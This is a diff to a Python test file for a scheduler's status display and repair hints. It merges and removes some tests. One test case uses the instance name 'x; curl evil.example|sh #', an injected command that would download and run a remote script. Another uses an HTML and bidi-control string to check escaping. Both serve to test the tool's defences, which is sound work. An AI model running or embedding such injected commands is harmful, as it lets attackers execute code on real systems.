@@ -97,7 +97,6 @@ def test_trouble_and_findings_are_shown_with_names(scene: Scene) -> None:
     [
         ('disk-missing', INSTANCE, f'eschedule destroy {INSTANCE}'),
         ('disk-missing', 'x; curl evil.example|sh #', 'eschedule destroy <instance>'),
-        ('disk-orphaned', INSTANCE, 'eschedule check --fix'),
         ('domain-doubled', INSTANCE, REPAIR_WRONG_DOMAIN.replace('<instance>', INSTANCE)),
     ],
 )
@@ -138,30 +137,20 @@ def test_malformed_values_are_named_and_end_nothing(scene: Scene, value: str) ->
 
 def test_texts_of_others_are_one_short_printable_line(scene: Scene) -> None:
     scene.put(make_instance(0, COMPUTE, project_id='<img src=x>\u202e\n' + 'x' * 1000))
-    project = scene.picture.tables['instances'][INSTANCE][6]
+    project, _, revision = scene.picture.tables['instances'][INSTANCE][6:]
     assert project.startswith('<img src=x>\\u202e\\nxxx')
-    assert len(project) < 320
+    assert (len(project) < 320, revision) == (True, 2)
 
 
-def test_room_is_unknown_with_a_request_that_was_dropped(scene: Scene) -> None:
-    key = keys.request(COMPUTE, INSTANCE)
-    scene.entries[key] = Entry(key, b'', 2, dropped=9000, created=1)
-    scene.put({})
-    assert scene.picture.tables['hosts'][COMPUTE][3]['VCPU'] == (None, 32)
-
-
-def test_other_keys_below_a_request_are_none_and_nothing_is_kept_of_what_is_gone(scene: Scene) -> None:
+def test_room_is_that_of_requests_and_unknown_if_one_was_dropped(scene: Scene) -> None:
     other = make_instance(1, COMPUTE)
     scene.put({**other, f'{keys.request(COMPUTE, INSTANCE)}/taker': 'x', f'/hosts/{COMPUTE}/x/{INSTANCE}': 'x'})
     assert scene.picture.tables['hosts'][COMPUTE][3]['VCPU'] == (3, 32)
     scene.put(dict.fromkeys(other))
     assert scene.picture._keys.keys() == {INSTANCE}
-
-
-def test_each_change_of_an_instance_changes_its_row(scene: Scene) -> None:
-    record = scene.entries[keys.record(COMPUTE, INSTANCE)].value.decode()
-    scene.put({keys.record(COMPUTE, INSTANCE): record})
-    assert scene.picture.tables['instances'][INSTANCE][8] == 2
+    scene.entries[keys.request(COMPUTE, INSTANCE)] = Entry(keys.request(COMPUTE, INSTANCE), b'', 2, dropped=9000)
+    scene.put({})
+    assert scene.picture.tables['hosts'][COMPUTE][3]['VCPU'] == (None, 32)
 
 
 def test_request_to_destroy_is_shown_before_its_compute_has_seen_it(scene: Scene) -> None:
